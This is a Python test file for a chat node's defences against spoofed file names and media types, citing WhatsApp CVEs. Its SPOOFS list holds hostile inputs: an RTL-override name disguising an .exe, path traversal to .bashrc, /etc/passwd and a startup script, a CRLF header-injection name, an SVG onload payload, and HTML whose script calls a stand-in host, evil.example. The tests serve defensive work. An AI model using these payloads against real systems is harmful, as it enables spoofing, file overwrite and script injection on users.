"""filename-spoof (WhatsApp CVE-2026-23863, CVE-2025-30401): neither the name nor the type that a
sender gives makes a file look or act as something else."""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import sys
from collections.abc import AsyncIterator
from http.client import HTTPConnection, HTTPMessage
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "node"))

from chatters import meet, person, relay, until

from holdfast.core.chat import names
from holdfast.node import files, views
from holdfast.node.api import Node
from holdfast.node.client import Address, Client
from holdfast.node.program import interface
from holdfast.node.schema import Message
from holdfast.node.server import NodeServer

SECRET = "s" * 43
HTML = b"<!doctype html><script>fetch('//evil.example')</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
SPOOFS = [
    ("report\u202efdp.exe", "application/pdf", b"MZ" + bytes(50)),
    ("photo.jpg\0.html", "image/jpeg", HTML),
    ("../../../.bashrc", "", b"evil"),
    ("..\\..\\startup\\run.bat", "", b"evil"),
    ("/etc/passwd", "", b"evil"),
    ("con.txt", "", b"evil"),
    ("a\r\nX-Evil: 1\r\n\r\n<script>", "text/html", HTML),
    ("picture.svg", "image/svg+xml", SVG),
    ("picture.png", "image/png", HTML),
    ("sound.ogg", "audio/ogg", SVG),
    ("\u200b\u200f\u2066 ", "", b"x"),
    ("x" * 250 + ".pdf", "application/pdf", b"%PDF-"),
    ("trailing. . .", "", b"x"),
]


@contextlib.asynccontextmanager
async def two(tmp_path: Path) -> AsyncIterator[tuple[Node, Client, int]]:
    """Boris's node, a program at Anna's, and the port of Boris's own server."""
    async with (
        relay(tmp_path / "relay") as home,
        person(tmp_path / "anna", "Anna", home) as anna,
        person(tmp_path / "boris", "Boris", home) as boris,
    ):
        await meet(anna, boris)
        servers = []
        for node, who in ((anna, "anna"), (boris, "boris")):
            server = NodeServer(node, interface(), SECRET, os.urandom)
            await server.listen(0)
            Address(server.port, SECRET, os.getpid()).write(tmp_path / who)
            servers.append(server)
        async with Client.connect(tmp_path / "anna") as client:
            yield boris, client, servers[1].port
        for server in servers:
            await server.close()


def get(port: int, id: str) -> tuple[int, HTTPMessage, bytes]:
    connection = HTTPConnection("127.0.0.1", port, timeout=20)
    with contextlib.closing(connection):
        connection.request("GET", f"/files/{id}", headers={"Authorization": f"Bearer {SECRET}"})
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()


async def received(boris: Node, client: Client, name: str, media: str, data: bytes) -> Message:
    upload = await client.upload(io.BytesIO(data), len(data))
    kind = "picture" if media.startswith("image/") else "file"
    before = len((await boris.messages("Anna")).messages)
    await client.node.send_file("Boris", upload, name[:255], kind, media)  # type: ignore[arg-type]
    page = await until(
        lambda: boris.messages("Anna"),
        lambda page: (
            len(page.messages) > before
            and (last := page.messages[-1].file) is not None
            and last.state == "whole"
        ),
    )
    return page.messages[-1]


def harmless(name: str) -> bool:
    """One line, no folder, nothing hidden, on every system."""
    return (
        bool(name)
        and name == names.clean_file(name)
        and not any(char in name for char in "/\\\0\r\n\u202e\u200b\u200f\u2066:")
        and not name.startswith(".")
        and not name.endswith((".", " "))
        and len(name.encode()) <= 200
    )


async def test_no_name_and_no_type_deceives(tmp_path: Path) -> None:
    async with two(tmp_path) as (boris, client, port):
        for name, media, data in SPOOFS:
            message = await received(boris, client, name, media, data)
            assert message.file is not None
            assert harmless(message.file.name), message.file.name
            assert message.file.type == names.OCTETS
            assert message.file.kind == "file"
            status, headers, body = await asyncio.to_thread(get, port, message.id)
            assert (status, body) == (200, data)
            assert headers["content-type"] == names.OCTETS
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
            assert "sandbox" in ", ".join(headers.get_all("content-security-policy") or [])
            assert headers["x-evil"] is None
        kept = {path.name for path in (tmp_path / "boris" / "files").iterdir()}
        assert all(set(name) <= set("0123456789abcdef") for name in kept)


async def test_what_is_a_picture_stays_one(tmp_path: Path) -> None:
    async with two(tmp_path) as (boris, client, port):
        png = b"\x89PNG\r\n\x1a\n" + bytes(30)
        message = await received(boris, client, "cat.png", "image/png", png)
        status, headers, _ = await asyncio.to_thread(get, port, message.id)
        assert (status, headers["content-type"]) == (200, "image/png")


def test_small_pictures_are_pictures() -> None:
    for data in (HTML, SVG, b"", b"GIF89a", b"\x00" * 20):
        assert views.picture_type(data) is None


async def test_twin_that_believes_the_sender(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(names, "clean_file", lambda name: name)
    monkeypatch.setattr(names, "clean_media", lambda media, start: media)
    monkeypatch.setattr(names, "MEDIA", names.MEDIA | {"image/svg+xml"})
    monkeypatch.setattr(files, "BY_ITSELF", files.BY_ITSELF)
    async with two(tmp_path) as (boris, client, port):
        message = await received(boris, client, "pic\u202egnp.exe", "image/svg+xml", SVG)
        assert message.file is not None
        assert "\u202e" in message.file.name
        _, headers, _ = await asyncio.to_thread(get, port, message.id)
        assert headers["content-type"] == "image/svg+xml"
